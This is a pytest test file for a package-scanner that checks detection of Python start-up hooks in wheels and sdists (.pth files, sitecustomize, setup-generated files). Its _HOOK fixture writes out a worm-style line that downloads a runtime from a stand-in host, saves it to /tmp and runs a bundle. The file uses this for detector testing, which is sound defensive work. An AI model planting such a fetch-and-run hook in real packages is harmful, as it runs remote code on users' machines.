"""Files that run each time Python starts, as the engine sees them: worm style, start files, customisation."""

from __future__ import annotations

import pytest

from stockade.analyse.engine import analyse
from stockade.model.artifact import Kind
from stockade.model.assessment import Findings
from stockade.model.evidence import GapKind, Phase
from stockade.model.project import Digest
from tests.support.archives import Content, sdist, wheel

_DIGEST = Digest("0" * 64)
#: What a worm's hook does, without anything that would work: fetch another language's runtime, run a bundle in it.
_HOOK = (
    "import os, subprocess, urllib.request; "
    "b = urllib.request.urlopen('https://runtime.invalid/bun.zip').read(); "
    "open('/tmp/bun', 'wb').write(b); "
    "subprocess.Popen(['/tmp/bun', 'run', 'bundle.js'])"
)


def _wheel(files: dict[str, Content]) -> Findings:
    data = wheel("demo", "1.0", files)
    return analyse(data, filename="demo-1.0-py3-none-any.whl", kind=Kind.WHEEL, sha256=_DIGEST)


def _told(found: Findings) -> set[tuple[str, Phase | None]]:
    return {(one.detector, one.phase) for one in found.evidence}


@pytest.mark.parametrize(
    "path",
    [
        "-setup.pth",
        "demo-1.0.data/purelib/-setup.pth",
        "demo-1.0.data/platlib/-setup.pth",
        "demo-1.0.data/data/lib/python3.11/site-packages/-setup.pth",
    ],
)
def test_a_hook_that_fetches_a_runtime_is_told_wherever_it_would_lie(path: str) -> None:
    told = _told(_wheel({path: f"# hook\n{_HOOK}\n", "demo/_runtime/bundle.js": "1"}))
    wanted = {"startup-line", "startup-payload", "download-and-start"}
    assert wanted <= {name for name, phase in told if phase is Phase.STARTUP}


def test_a_hook_in_many_lines_is_read_as_code() -> None:
    text = "import os; exec('import subprocess\\nfor n in range(2):\\n    subprocess.run([\"a\"])\\n')\n"
    found = _wheel({"demo.pth": text})
    assert ("layered-code", Phase.STARTUP) in _told(found) or ("startup-payload", Phase.STARTUP) in _told(
        found
    )
    assert not [gap for gap in found.gaps if gap.kind is GapKind.LIMIT]


def test_a_line_that_does_not_compile_hides_no_other() -> None:
    found = _wheel({"demo.pth": f"import x y z\n{_HOOK}\n"})
    assert ("download-and-start", Phase.STARTUP) in _told(found)
    assert [gap.what for gap in found.gaps if gap.kind is GapKind.LIMIT] == ["demo.pth"]
    (where,) = {one.where.line for one in found.evidence if one.detector == "download-and-start"}
    assert where == 2


def test_what_a_start_file_calls_runs_at_start_up() -> None:
    code = "import os\n\n\ndef boot():\n    os.system('a')\n\n\ndef other():\n    os.system('b')\n"
    found = _wheel({"demo.start": "demo.hook:boot\n", "demo/__init__.py": "", "demo/hook.py": code})
    phases = {one.where.line: one.phase for one in found.evidence if one.where.file == "demo/hook.py"}
    assert phases.get(5) is Phase.STARTUP
    assert phases.get(9, Phase.CALL) is Phase.CALL


@pytest.mark.parametrize("path", ["sitecustomize.py", "usercustomize/__init__.py"])
def test_customisation_runs_at_start_up(path: str) -> None:
    found = _wheel({path: "import os\n\nos.system('a')\n", "demo/__init__.py": ""})
    assert {one.phase for one in found.evidence if one.where.file == path} == {Phase.STARTUP}


def test_more_lines_than_anybody_needs_are_a_gap() -> None:
    found = _wheel({"demo.pth": "./a\n" * 2_001})
    assert [(gap.kind, gap.what) for gap in found.gaps] == [(GapKind.LIMIT, "demo.pth")]
    assert not _wheel({"demo.pth": "\n# none\n" * 2_001}).gaps


def test_a_pth_that_setup_makes_is_told() -> None:
    files: dict[str, Content] = {
        "setup.py": "from setuptools import setup\n\nsetup(name='demo', data_files=[('', ['lib/demo.pth'])])\n",
        "lib/demo.pth": f"{_HOOK}\n",
    }
    data = sdist("demo", "1.0", files)
    told = _told(analyse(data, filename="demo-1.0.tar.gz", kind=Kind.SDIST, sha256=_DIGEST))
    assert {("startup-file-made", Phase.INSTALL), ("startup-payload", Phase.STARTUP)} <= told
